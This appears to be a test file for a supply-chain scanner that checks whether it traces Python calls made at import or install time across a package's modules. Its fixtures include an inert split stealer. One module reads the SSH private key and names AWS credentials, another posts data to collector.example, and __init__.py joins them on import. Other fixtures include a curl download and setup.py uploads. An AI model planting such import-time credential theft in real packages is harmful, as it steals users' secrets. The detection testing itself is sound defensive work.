// A payload split over the target's own modules (one reads, one sends, __init__.py calls both on import) runs on
// import as surely as one written in one file. Inert imitations: reserved names only, never run.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { TargetReport } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

const COLLECT = [
  'import os',
  'def gather():',
  '    p = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")',
  '    return open(p).read() if os.path.exists(p) else ""',
  'def unused():',
  '    return os.path.expanduser("~/.aws/credentials")',
].join('\n');
const SHIP =
  'import urllib.request\ndef ship(data):\n    urllib.request.urlopen("https://collector.example/u", data=data.encode())\n';

const findingsOf = (report: TargetReport, path: string) =>
  report.files.find((file) => file.path === path)?.findings ?? [];

test('functions of other modules that __init__.py calls on import run on import: a split stealer is joined', async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'from .collect import gather\nfrom .net import ship\nship(gather())\n',
    'demo/collect.py': COLLECT,
    'demo/net.py': SHIP,
  });
  assert.ok(['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
  assert.match(report.reasons[0], /reads SSH keys and sends data over the network/);
  const collect = findingsOf(report, 'demo/collect.py');
  assert.equal(collect.find((f) => /id_rsa|\.ssh/.test(f.message))?.trigger, 'import');
  // a function nobody calls on import stays code a user calls
  assert.equal(collect.find((f) => /\.aws/.test(f.message))?.trigger, 'call');
  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'import');
  assert.ok(
    report.files.every((file) => file.ownCalls === undefined),
    'the stages leave no working data behind',
  );
});

test('the calls are followed through a module that only passes them on, and by module attribute', async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'from . import runner\nrunner.start()\n',
    'demo/runner.py': 'from demo import collect, net\ndef start():\n    net.ship(collect.gather())\n',
    'demo/collect.py': COLLECT,
    'demo/net.py': SHIP,
  });
  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'import');
  assert.match(report.reasons[0], /reads SSH keys and sends data over the network/);
});

test('functions of other modules called only when a user calls are not moved to import time', async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'from .collect import gather\nfrom .net import ship\ndef backup():\n    ship(gather())\n',
    'demo/collect.py': COLLECT,
    'demo/net.py': SHIP,
  });
  assert.ok(findingsOf(report, 'demo/net.py').every((f) => f.trigger === 'call'));
  assert.ok(!['high', 'critical'].includes(report.risk), report.reasons.join(' | '));
});

test('from a function called on import, the calls it makes are followed one level, not through the whole file', async () => {
  const kernel = [
    'import os, subprocess',
    'def init(cfg):',
    '    return load(cfg)',
    'def load(cfg):',
    '    access([cfg])',
    '    return os.path.expanduser("~/.ssh/id_rsa")',
    'def sync(url):',
    '    subprocess.run(["curl", "-s", "-o", "/tmp/x", url])',
    'def access(args):',
    '    return sync(args[0])',
  ].join('\n');
  const report = await analyseFiles({
    'demo/__init__.py': 'from demo.kernel import init\ninit({})\n',
    'demo/kernel.py': kernel,
  });
  const found = findingsOf(report, 'demo/kernel.py');
  assert.equal(found.find((f) => /\.ssh/.test(f.message))?.trigger, 'import', 'a function the entry calls');
  assert.equal(
    found.find((f) => f.rule === 'process-network-tool')?.trigger,
    'call',
    'three calls away from the entry',
  );
});

test("a fetch on import from a URL the user's settings give, and a launch a user calls, are no dropper", async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'from demo.cloud import known\nKNOWN = known()\n',
    'demo/cloud.py':
      'import os, urllib.request\ndef known():\n    return urllib.request.urlopen(os.environ["DEMO_METADATA_URL"]).read()\n',
    'demo/util.py':
      'import subprocess\ndef open_page(path):\n    subprocess.Popen(["powershell.exe", "-Command", "Start-Process", path])\n',
  });
  assert.ok(
    !report.reasons.some((r) => r.startsWith('downloads from the network and launches')),
    report.reasons.join(' | '),
  );
});

test("a class made on import runs its constructor's calls, not its other methods', and three modules away is too far", async () => {
  const shell = [
    'from demo.net import ship',
    'from demo.collect import gather',
    'class Shell:',
    '    def __init__(self):',
    '        self.key = gather()',
    '    def do_upload(self, arg):',
    '        ship(arg)',
  ].join('\n');
  const report = await analyseFiles({
    'demo/__init__.py': 'from demo.shell import Shell\nSHELL = Shell()\n',
    'demo/shell.py': shell,
    'demo/collect.py': COLLECT,
    'demo/net.py': SHIP,
  });
  assert.equal(findingsOf(report, 'demo/collect.py').find((f) => /id_rsa|\.ssh/.test(f.message))?.trigger, 'import');
  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'call', 'a command method runs when the user calls it');
  const far = await analyseFiles({
    'demo/__init__.py': 'from demo.a import f\nf()\n',
    'demo/a.py': 'from demo.b import g\ndef f():\n    g()\n',
    'demo/b.py': 'from demo.net import ship\ndef g():\n    ship("x")\n',
    'demo/net.py': SHIP,
  });
  assert.equal(findingsOf(far, 'demo/net.py')[0]?.trigger, 'call');
});

test("a method called on import on an instance of another module's class runs on import", async () => {
  const client = [
    'import json, urllib.request',
    'class Client:',
    '    def __init__(self, url):',
    '        self.url = url',
    '    def push(self, payload):',
    '        urllib.request.urlopen(self.url, json.dumps(payload).encode())',
    '    def unused(self):',
    '        urllib.request.urlopen("https://other.example/")',
  ].join('\n');
  for (const init of [
    'from .net import Client\nClient("https://metrics.example/c").push({"a": 1})\n',
    'from .net import Client\nc = Client("https://metrics.example/c")\nc.push({"a": 1})\n',
  ]) {
    const report = await analyseFiles({ 'demo/__init__.py': init, 'demo/net.py': client });
    const net = findingsOf(report, 'demo/net.py');
    assert.equal(net.find((f) => f.line === 6)?.trigger, 'import', init);
    // the class's other methods are still code a user calls
    assert.equal(net.find((f) => f.line === 8)?.trigger, 'call', init);
  }
});

test('a method setup.py calls on an instance of a class of the package runs at install time', async () => {
  const report = await analyseFiles(
    {
      'demo-1.0/setup.py':
        'from setuptools import setup\nfrom demo.net import Client\nClient().push("x")\nsetup(name="demo", version="1.0")\n',
      'demo-1.0/demo/__init__.py': '',
      'demo-1.0/demo/net.py':
        'import requests\nclass Client:\n    def push(self, payload):\n        requests.post("https://metrics.example/c", data=payload)\n',
    },
    { name: 'demo', version: '1.0' },
  );
  assert.equal(findingsOf(report, 'demo-1.0/demo/net.py').find((f) => f.line === 4)?.trigger, 'install');
});

test('a function of another module bound with functools.partial on import does not run on import', async () => {
  const report = await analyseFiles({
    'demo/__init__.py':
      'import functools\nfrom . import net\nstream = functools.partial(print, net.ship)\nthreaded = functools.partial(net.ship, b"x")\n',
    'demo/net.py': SHIP,
  });
  assert.equal(findingsOf(report, 'demo/net.py')[0]?.trigger, 'call');
});
